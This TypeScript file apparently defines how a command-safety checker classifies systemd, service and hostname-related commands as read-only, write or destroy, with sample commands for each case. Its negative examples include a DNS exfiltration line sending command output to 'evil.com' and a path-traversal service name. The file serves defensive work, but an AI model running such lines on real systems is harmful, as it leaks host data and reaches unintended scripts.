import type { Form, Model } from "../model.ts"

const SYSTEMCTL_FLAGS =
  "-alqr --no-pager --all --full --quiet --plain --no-legend --failed --user --system --reverse --recursive --value --with-dependencies -t:name -n:number -o:name -p:name --type=name --state=name --lines=number --output=name --property=name --after --before --show-types --no-ask-password --dependencies"

const SYSTEMCTL: Form = {
  flags: `${SYSTEMCTL_FLAGS} --version --help`,
  inherited: SYSTEMCTL_FLAGS,
  subcommands: {
    "": "",
    status: "",
    show: "",
    cat: "",
    "is-active": "",
    "is-enabled": "",
    "is-failed": "",
    "is-system-running": "",
    "list-units": "",
    "list-unit-files": "",
    "list-timers": "",
    "list-sockets": "",
    "list-jobs": "",
    "list-dependencies": "",
    "list-machines": "",
    "list-paths": "",
    "list-automounts": "",
    "get-default": ""
  },
  changes: {
    write:
      "start,enable,reload,daemon-reload,daemon-reexec,reset-failed,set-property,unmask,preset,link,add-wants,reenable,reload-or-restart,set-environment,edit,revert,set-default",
    destroy:
      "stop,restart,kill,disable,mask,poweroff,reboot,halt,suspend,hibernate,isolate,rescue,emergency,kexec,try-restart,exit,switch-root"
  }
}

export const system: ReadonlyArray<Model> = [
  {
    names: "systemctl",
    isPaging: true,
    judge: (call) =>
      call.scope.isPiped || call.args.some((arg) => /^(--failed|--version|--help|[a-z].*)$/.test(arg.literal ?? ""))
        ? call.apply(SYSTEMCTL)
        : { class: "unknown", why: "systemctl on its own is the list of all units in a pager" },
    read: [
      "systemctl status nginx",
      "systemctl list-units --failed --no-pager",
      "systemctl is-active sshd",
      "systemctl show -p MainPID nginx",
      "systemctl --failed list-units",
      "systemctl list-timers --all",
      "systemctl --failed",
      "systemctl --version"
    ],
    notRead: [
      "systemctl restart nginx",
      "systemctl -H host status x",
      "systemctl edit x",
      "systemctl",
      "systemctl --no-pager",
      "systemctl $X",
      "systemctl link /tmp/x",
      "systemctl --root=/x status y",
      "systemctl list-unit --x"
    ]
  },
  {
    names: "service rc-service",
    judge: ({ args, apply, range }) => {
      const words = args.map((arg) => arg.literal)
      if (words.length === 1 && words[0] === "--status-all") return apply({ flags: "--status-all" })
      return words.length === 2 &&
        words[1] === "status" &&
        /^[\w@.-]+$/.test(words[0] ?? "") &&
        !words[0]?.startsWith("-") &&
        !/^\.+$/.test(words[0] ?? "")
        ? { class: "read", why: "asks a service for its status" }
        : { class: "unknown", why: "a service's script that is asked for more than its status", range }
    },
    read: ["service nginx status", "service --status-all"],
    notRead: ["service nginx restart", "service ../../tmp/x status", "service x stop", "service $X status"]
  },
  { names: "rc-status", flags: "-aclrsu", operands: 1, read: ["rc-status -a"], notRead: ["rc-status --x"] },
  {
    names: "hostname dnsdomainname domainname nisdomainname",
    flags: "-adfiIsy --all-fqdns --all-ip-addresses --fqdn --long --ip-address --short --domain",
    operands: 0,
    otherwise: "write",
    read: ["hostname", "hostname -f", "hostname -I"],
    notRead: ["hostname evil", "hostname -F f", "hostname -b x", "domainname x"]
  },
  {
    names: "hostnamectl timedatectl localectl",
    flags: "--no-pager -a --all --static --pretty --transient --json=name",
    inherited: "--no-pager -a --all --property=name -p:name --value --monitor --json=name",
    subcommands: {
      "": "",
      status: "",
      show: "",
      "timesync-status": "",
      "show-timesync": "",
      ...Object.fromEntries(
        ["list-timezones", "list-locales", "list-keymaps"].map((key) => [key, { isPager: true, flags: "--no-pager" }])
      )
    },
    otherwise: "write",
    read: ["hostnamectl", "timedatectl status", "timedatectl show -p Timezone", "localectl status"],
    notRead: [
      "timedatectl list-timezones",
      "hostnamectl set-hostname x",
      "timedatectl set-time x",
      "timedatectl -H host",
      "localectl set-locale x",
      "hostnamectl hostname x"
    ]
  },
  {
    names: "loginctl",
    flags: "--no-pager",
    inherited: "--no-pager -a --all -p:name --property=name --value -l --full --no-legend",
    subcommands: {
      "list-sessions": "",
      "list-users": "",
      "list-seats": "",
      "session-status": { isPager: true },
      "user-status": { isPager: true },
      "show-session": "",
      "show-user": ""
    },
    read: ["loginctl list-sessions", "loginctl show-user root -p State"],
    notRead: ["loginctl user-status", "loginctl terminate-user x", "loginctl enable-linger x", "loginctl lock-session"]
  },
  {
    names: "systemd-analyze",
    flags: "--no-pager --user --system",
    subcommands: {
      "": "",
      time: "",
      blame: "",
      "critical-chain": "",
      calendar: "--iterations=number",
      timespan: "",
      timestamp: "",
      security: "--no-pager"
    },
    read: ["systemd-analyze blame", "systemd-analyze critical-chain", "systemd-analyze calendar daily"],
    notRead: ["systemd-analyze log-level debug", "systemd-analyze set-log-level debug", "systemd-analyze -H x blame"]
  },
  {
    names: "systemd-cgls systemd-cgtop systemd-detect-virt systemd-path",
    flags: "-lakbcvrq -n:number --no-pager --all --batch",
    read: ["systemd-cgls --no-pager", "systemd-detect-virt -v"],
    notRead: ["systemd-cgls --x"]
  },
  {
    names: "systemd-resolve",
    flags: "--status --statistics --no-pager",
    operands: 0,
    isPager: true,
    read: ["systemd-resolve --status | head", "systemd-resolve --no-pager --status"],
    notRead: ["systemd-resolve --status", "systemd-resolve --flush-caches | cat"]
  },
  {
    names: "resolvectl networkctl",
    flags: "--no-pager -4 -6",
    inherited: "--no-pager -4 -6 -a --all -s --stats",
    subcommands: {
      "": "",
      status: "",
      statistics: "",
      query: { isNetwork: true, contentFrom: "none" },
      list: "",
      lldp: "",
      dns: { operands: 1 },
      domain: { operands: 1 }
    },
    read: ["resolvectl status", "resolvectl query example.com", "networkctl status eth0", "resolvectl dns"],
    notRead: [
      "resolvectl flush-caches",
      "resolvectl dns eth0 1.2.3.4",
      "networkctl down eth0",
      "resolvectl query $(id).evil.com",
      "resolvectl reset-statistics"
    ]
  }
]
